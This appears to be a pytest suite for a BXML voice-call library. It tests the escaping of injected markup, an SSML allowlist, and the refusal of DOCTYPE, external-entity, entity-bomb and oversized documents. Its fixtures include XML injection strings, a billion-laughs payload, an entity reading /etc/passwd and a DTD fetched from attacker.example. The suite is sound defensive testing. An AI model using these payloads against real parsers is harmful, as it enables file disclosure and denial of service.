"""BXML safety: hostile text, SSML handling, and parsing untrusted documents."""

from __future__ import annotations

from typing import List

import pytest

from bandwidth.models.bxml import (
    Bxml,
    BxmlParseError,
    Gather,
    Hangup,
    PhoneNumber,
    PlayAudio,
    Redirect,
    Response,
    Root,
    SpeakSentence,
    Tag,
    Transfer,
    Verb,
    parse_bxml,
)
from bandwidth.models.bxml.root import MAX_DOCUMENT_BYTES

DECL = "<?xml version='1.0' encoding='UTF-8'?>\n"


def response(body: str) -> str:
    return f"{DECL}<Response>{body}</Response>"


def speak(inner: str) -> str:
    return f"<SpeakSentence>{inner}</SpeakSentence>"


# -- hostile text ---------------------------------------------------------------------

HOSTILE_TEXT = [
    (
        "</SpeakSentence><Hangup/><SpeakSentence>",
        "&lt;/SpeakSentence&gt;&lt;Hangup/&gt;&lt;SpeakSentence&gt;",
    ),
    ("<Hangup/>", "&lt;Hangup/&gt;"),
    ("a < b and c > d", "a &lt; b and c &gt; d"),
    ("Tom & Jerry", "Tom &amp; Jerry"),
    ("x]]>y", "x]]&gt;y"),
    (
        "<![CDATA[</SpeakSentence><Hangup/>]]>",
        "&lt;![CDATA[&lt;/SpeakSentence&gt;&lt;Hangup/&gt;]]&gt;",
    ),
    ("&#60;Hangup/&#62;", "&amp;#60;Hangup/&amp;#62;"),
    ("&lt;Hangup/&gt;", "&amp;lt;Hangup/&amp;gt;"),
    ("&undefined;", "&amp;undefined;"),
    ("&#0;", "&amp;#0;"),
    ('<!DOCTYPE x [<!ENTITY a "b">]>&a;', '&lt;!DOCTYPE x [&lt;!ENTITY a "b"&gt;]&gt;&amp;a;'),
    (
        "x</bxml-speak-sentence><Hangup/><bxml-speak-sentence>y",
        "x&lt;/bxml-speak-sentence&gt;&lt;Hangup/&gt;&lt;bxml-speak-sentence&gt;y",
    ),
    ("<b>bold</b> <i>", "&lt;b&gt;bold&lt;/b&gt; &lt;i&gt;"),
    ("élan 😀 ünïcode", "élan 😀 ünïcode"),
]


@pytest.mark.parametrize(("text", "inner"), HOSTILE_TEXT)
def test_hostile_sentence_text_is_spoken_not_executed(text: str, inner: str) -> None:
    doc = Response([SpeakSentence(text)])
    assert doc.to_bxml() == response(speak(inner))
    parsed = Response.from_xml(doc.to_bxml())
    assert len(parsed) == 1
    assert isinstance(parsed[0], SpeakSentence)
    assert parsed[0].text == text
    assert parsed == doc
    assert parsed.to_bxml() == doc.to_bxml()


def test_carriage_returns_in_text_are_written_as_the_official_sdk_writes_them() -> None:
    doc = Response([SpeakSentence("line1\r\nline2\ttab")])
    assert doc.to_bxml() == response(speak("line1\r\nline2\ttab"))
    # an XML parser reads a written CR LF as LF
    assert Response.from_xml(doc.to_bxml())[0].text == "line1\nline2\ttab"  # type: ignore[attr-defined]


def test_hostile_attribute_values_are_escaped() -> None:
    doc = Response([Redirect("/next?a=1&b=2", tag='"><Hangup/><x y="')])
    assert doc.to_bxml() == response(
        '<Redirect redirectUrl="/next?a=1&amp;b=2" tag="&quot;&gt;&lt;Hangup/&gt;&lt;x y=&quot;" />'
    )
    parsed = Response.from_xml(doc.to_bxml())
    assert len(parsed) == 1
    assert parsed[0].tag == '"><Hangup/><x y="'  # type: ignore[attr-defined]


def test_whitespace_in_attributes_survives_a_round_trip() -> None:
    doc = Response([Redirect("/x", tag="a\tb\nc\r d")])
    assert doc.to_bxml() == response('<Redirect redirectUrl="/x" tag="a&#09;b&#10;c&#13; d" />')
    assert Response.from_xml(doc.to_bxml())[0].tag == "a\tb\nc\r d"  # type: ignore[attr-defined]


def test_hostile_text_in_other_text_verbs() -> None:
    assert Tag("<Hangup/>&").to_bxml() == "<Tag>&lt;Hangup/&gt;&amp;</Tag>"
    assert Tag("<b>x</b>").to_bxml() == "<Tag>&lt;b&gt;x&lt;/b&gt;</Tag>"
    assert (
        PlayAudio("/a.wav?x=<y>&z").to_bxml() == "<PlayAudio>/a.wav?x=&lt;y&gt;&amp;z</PlayAudio>"
    )
    assert Verb(tag="Custom", content="<Hangup/>").to_bxml() == "<Custom>&lt;Hangup/&gt;</Custom>"


# -- SSML -----------------------------------------------------------------------------

KEPT_SSML = [
    ('Hello <break time="1s"/> world', 'Hello <break time="1s"/> world'),
    ("Hello <break time='500ms'></break>world", "Hello <break time='500ms'></break>world"),
    (
        '<prosody rate="slow" pitch="+10%" volume="loud">slowly</prosody>',
        '<prosody rate="slow" pitch="+10%" volume="loud">slowly</prosody>',
    ),
    (
        'Call <say-as interpret-as="telephone">+1 919 555 1234</say-as>',
        'Call <say-as interpret-as="telephone">+1 919 555 1234</say-as>',
    ),
    (
        '<say-as interpret-as="date" format="mdy">1/2/2024</say-as>',
        '<say-as interpret-as="date" format="mdy">1/2/2024</say-as>',
    ),
    ('<lang xml:lang="fr-FR">bonjour</lang>', '<lang xml:lang="fr-FR">bonjour</lang>'),
    (
        '<p><s>One.</s><s>Two <emphasis level="strong">now</emphasis>.</s></p>',
        '<p><s>One.</s><s>Two <emphasis level="strong">now</emphasis>.</s></p>',
    ),
    (
        '<phoneme alphabet="ipa" ph="p\u026a\u02c8k\u0251\u02d0n">pecan</phoneme>',
        '<phoneme alphabet="ipa" ph="p\u026a\u02c8k\u0251\u02d0n">pecan</phoneme>',
    ),
    (
        '<sub alias="World Wide Web">WWW</sub> & more',
        '<sub alias="World Wide Web">WWW</sub> &amp; more',
    ),
    ('<break time="1s"/> Tom & Jerry', '<break time="1s"/> Tom &amp; Jerry'),
    ('<sub alias="AT&T">ATT</sub>', '<sub alias="AT&amp;T">ATT</sub>'),
    ("<s>2 < 3</s>", "<s>2 &lt; 3</s>"),
    ("<s>x <!-- spoken --></s>", "<s>x &lt;!-- spoken --&gt;</s>"),
]


@pytest.mark.parametrize(("text", "inner"), KEPT_SSML)
def test_supported_ssml_is_kept_as_written(text: str, inner: str) -> None:
    sentence = SpeakSentence(text)
    assert sentence.is_ssml
    assert sentence.to_bxml() == speak(inner)
    parsed = Response.from_xml(Response([Gather([sentence])]).to_bxml())
    assert parsed[0][0].is_ssml  # type: ignore[index]


REFUSED_SSML = [
    ("<speak>Hello</speak>", "&lt;speak&gt;Hello&lt;/speak&gt;"),
    ("Hi <Hangup/>", "Hi &lt;Hangup/&gt;"),
    ('<break time="1s" onload="x"/>', '&lt;break time="1s" onload="x"/&gt;'),
    ("<break time='1s'>", "&lt;break time='1s'&gt;"),
    ("<s>one</p>", "&lt;s&gt;one&lt;/p&gt;"),
    (
        '<amazon:effect name="whispered">psst</amazon:effect>',
        '&lt;amazon:effect name="whispered"&gt;psst&lt;/amazon:effect&gt;',
    ),
    ('<s xmlns="http://evil">x</s>', '&lt;s xmlns="http://evil"&gt;x&lt;/s&gt;'),
    ('<sub alias="a>b">x</sub>', '&lt;sub alias="a&gt;b"&gt;x&lt;/sub&gt;'),
    ("<s>" * 33 + "deep" + "</s>" * 33, "&lt;s&gt;" * 33 + "deep" + "&lt;/s&gt;" * 33),
]


@pytest.mark.parametrize(("text", "inner"), REFUSED_SSML)
def test_anything_else_is_spoken_as_text(text: str, inner: str) -> None:
    sentence = SpeakSentence(text)
    assert not sentence.is_ssml
    assert sentence.to_bxml() == speak(inner)
    parsed = Response.from_xml(Response([sentence]).to_bxml())
    assert parsed == Response([sentence])
    assert parsed[0].text == text  # type: ignore[attr-defined]


def test_ampersands_are_always_literal_text() -> None:
    assert SpeakSentence("AT&T").to_bxml() == speak("AT&amp;T")
    assert SpeakSentence("AT&amp;T").to_bxml() == speak("AT&amp;amp;T")
    assert SpeakSentence("AT&T <break/>").to_bxml() == speak("AT&amp;T <break/>")
    assert SpeakSentence("AT&T").text == "AT&T"


def test_maximum_ssml_depth_is_kept() -> None:
    text = "<s>" * 32 + "deep" + "</s>" * 32
    assert SpeakSentence(text).is_ssml


def test_ssml_read_from_a_document_renders_the_same_markup() -> None:
    document = response(
        "<SpeakSentence>Hi <break time='1s' /> &amp; "
        '<sub alias="a &quot;b&quot; &amp; c">x</sub> 2 &lt; 3</SpeakSentence>'
    )
    sentence = Response.from_xml(document)[0]
    assert isinstance(sentence, SpeakSentence)
    assert sentence.text == 'Hi <break time="1s"/> & <sub alias=\'a "b" & c\'>x</sub> 2 < 3'
    assert sentence.is_ssml
    assert sentence.to_bxml() == speak(
        'Hi <break time="1s"/> &amp; <sub alias=\'a "b" &amp; c\'>x</sub> 2 &lt; 3'
    )


# -- parsing untrusted documents ----------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Response><SpeakSentence>&lol3;</SpeakSentence></Response>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Response><SpeakSentence>&xxe;</SpeakSentence></Response>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>
<Response/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_doctype_and_entities_are_refused(document: str) -> None:
    with pytest.raises(BxmlParseError) as info:
        Response.from_xml(document)
    assert "DOCTYPE declarations are not allowed" in str(info.value)


def test_bare_doctype_is_refused() -> None:
    with pytest.raises(BxmlParseError, match=r"^line 1: DOCTYPE declarations are not allowed$"):
        Response.from_xml("<!DOCTYPE Response><Response/>")


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("<Response>", "not well-formed XML: no element found: line 1, column 10"),
        ("", "not well-formed XML: no element found: line 1, column 0"),
        ("<Html/>", "line 1: expected a <Response> root, found <Html>"),
        ("<Bxml/>", "line 1: expected a <Response> root, found <Bxml>"),
        ('<Response id="1"/>', "line 1: <Response> takes no attributes (found 'id')"),
        ("<Response><Foo/></Response>", "line 1: <Foo> in the document is not a BXML verb"),
        (
            "<Response><Gather><Foo/></Gather></Response>",
            "line 1: <Foo> in <Gather> is not a BXML verb",
        ),
        ('<Response><Hangup reason="x"/></Response>', "line 1: <Hangup> has no attribute 'reason'"),
        (
            "<Response><Hangup>now</Hangup></Response>",
            "line 1: <Hangup> cannot contain text (found 'now')",
        ),
        (
            "<Response>hello<Hangup/></Response>",
            "line 1: <Response> cannot contain text (found 'hello')",
        ),
        (
            "<Response><Pause><Hangup/></Pause></Response>",
            "line 1: <Pause> cannot contain elements (found <Hangup>)",
        ),
        (
            "<Response><PhoneNumber>+19195551234</PhoneNumber></Response>",
            "line 1: PhoneNumber cannot go inside Response: Response holds top-level verbs;"
            " PhoneNumber goes inside Transfer",
        ),
        (
            "<Response><Gather><Hangup/></Gather></Response>",
            "line 1: Hangup cannot go inside Gather: Gather holds only SpeakSentence or PlayAudio",
        ),
        (
            "<Response><SpeakSentence>Hi <Hangup/></SpeakSentence></Response>",
            "line 1: SpeakSentence holds unsupported markup: <Hangup> is not an SSML element"
            " SpeakSentence supports",
        ),
        (
            '<Response><Gather maxDigits="0"/></Response>',
            "line 1: Gather.max_digits: must be between 1 and 50 (got 0)",
        ),
        (
            '<Response><Gather maxDigits="five"/></Response>',
            "line 1: Gather.max_digits: must be a whole number (got 'five')",
        ),
        (
            '<Response><Ring answerCall="True"/></Response>',
            "line 1: Ring.answer_call: must be true or false (got 'True')",
        ),
        (
            '<Response><Pause duration="nan"/></Response>',
            "line 1: Pause.duration: must be a decimal number (got 'nan')",
        ),
        (
            '<Response><Redirect redirectUrl="/x" redirectMethod="get"/></Response>',
            "line 1: Redirect.redirect_method: must be one of: GET, POST (got 'get')",
        ),
        (
            '<Response><PlayAudio password="x">/a.wav</PlayAudio><Pause duration="0"/></Response>',
            "line 1: Pause.duration: must be between 0.1 and 86400 (got 0)",
        ),
        (
            "<Response><Transfer/></Response>",
            "line 1: Transfer.transfer_to: needs a PhoneNumber or SipUri",
        ),
        ("<Response><SpeakSentence/></Response>", "line 1: SpeakSentence.text: is required"),
        ("<Response><Redirect/></Response>", "line 1: Redirect.redirect_url: is required"),
        ("<Response><Forward/></Response>", "line 1: Forward.to: is required"),
        (
            "<Response>\n  <Transfer><PhoneNumber>x</PhoneNumber></Transfer>\n</Response>",
            "line 2: PhoneNumber.number: must be an E.164 number such as +15555551212 (got 'x')",
        ),
    ],
)
def test_invalid_documents_are_refused_with_a_clear_error(document: str, message: str) -> None:
    with pytest.raises(BxmlParseError) as info:
        Response.from_xml(document)
    assert str(info.value) == message
    assert isinstance(info.value, ValueError)


def test_pretty_printed_documents_with_comments_parse() -> None:
    document = """<?xml version='1.0' encoding='UTF-8'?>
<!-- built by hand -->
<Response>
    <SpeakSentence voice="julie">Hello <break time="1s"/> there</SpeakSentence>
    <Transfer transferCallerId="+19195550000">
        <PhoneNumber>
            +19195551234
        </PhoneNumber>
    </Transfer>
    <?app-note ignored?>
    <Hangup />
</Response>
"""
    parsed = Response.from_xml(document)
    assert parsed == Response(
        [
            SpeakSentence('Hello <break time="1s"/> there', voice="julie"),
            Transfer([PhoneNumber("+19195551234")], transfer_caller_id="+19195550000"),
            Hangup(),
        ]
    )


def test_bytes_are_decoded_by_their_declaration() -> None:
    latin1 = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        "<Response><SpeakSentence>Café</SpeakSentence></Response>"
    )
    parsed = Response.from_xml(latin1.encode("latin-1"))
    assert parsed[0].text == "Café"  # type: ignore[attr-defined]
    utf8 = Response([SpeakSentence("Café 😀")]).to_bytes()
    assert Response.from_xml(utf8) == Response([SpeakSentence("Café 😀")])
    assert Response.from_xml(bytearray(utf8)) == Response([SpeakSentence("Café 😀")])


def test_parse_bxml_and_root_from_xml_return_either_root() -> None:
    assert isinstance(parse_bxml("<Bxml><Hangup/></Bxml>"), Bxml)
    assert isinstance(parse_bxml(b"<Response/>"), Response)
    assert isinstance(Root.from_xml("<Bxml/>"), Bxml)
    assert isinstance(Root.from_xml("<Response/>"), Response)
    assert isinstance(Bxml.from_xml("<Bxml/>"), Bxml)
    with pytest.raises(BxmlParseError, match=r"<Html> is not a BXML root \(expected <Response>"):
        parse_bxml("<Html/>")
    with pytest.raises(TypeError, match="document must be str or bytes, not int"):
        parse_bxml(5)  # type: ignore[arg-type]


def test_unbounded_nesting_in_a_document_is_refused() -> None:
    document = (
        "<Response><SpeakSentence>" + "<s>" * 40 + "x" + "</s>" * 40 + "</SpeakSentence></Response>"
    )
    with pytest.raises(BxmlParseError, match="SSML nested more than 32 deep"):
        Response.from_xml(document)


def _padded(size: int) -> str:
    """A valid document of exactly ``size`` UTF-8 bytes (whitespace between verbs)."""
    head, tail = "<Response><Hangup/>", "</Response>"
    return head + " " * (size - len(head) - len(tail)) + tail


def test_documents_over_64_kb_are_refused_before_parsing() -> None:
    assert MAX_DOCUMENT_BYTES == 65536
    assert len(Response.from_xml(_padded(MAX_DOCUMENT_BYTES))) == 1
    assert len(Response.from_xml(_padded(MAX_DOCUMENT_BYTES).encode())) == 1
    too_big = _padded(MAX_DOCUMENT_BYTES + 1)
    for document, size in (
        (too_big, "65537 characters"),
        (too_big.encode(), "65537 bytes"),
        (bytearray(too_big.encode()), "65537 bytes"),
    ):
        with pytest.raises(BxmlParseError) as info:
            Response.from_xml(document)
        assert str(info.value) == f"document is {size}; Bandwidth accepts at most 65536 bytes"
    # counted in UTF-8 bytes, not characters: 20,000 four-byte characters are 80,000 bytes
    wide = "<Response><SpeakSentence>" + "😀" * 20_000 + "</SpeakSentence></Response>"
    with pytest.raises(BxmlParseError, match=r"^document is 80052 bytes"):
        parse_bxml(wide)
    with pytest.raises(BxmlParseError, match=r"^document is 10000000 characters; "):
        parse_bxml("x" * 10_000_000)


def test_round_trip_of_a_complete_call_flow() -> None:
    flow: List[Verb] = [
        SpeakSentence("Welcome to <emphasis>Example</emphasis> & co.", voice="kate"),
        Gather(
            [SpeakSentence("Press 1 for sales, 2 for support."), PlayAudio("/hold.mp3")],
            gather_url="/gather",
            max_digits=1,
            first_digit_timeout=5,
        ),
        Redirect("/fallback"),
    ]
    doc = Response(flow)
    text = doc.to_bxml()
    assert Response.from_xml(text) == doc
    assert Response.from_xml(text).to_bxml() == text
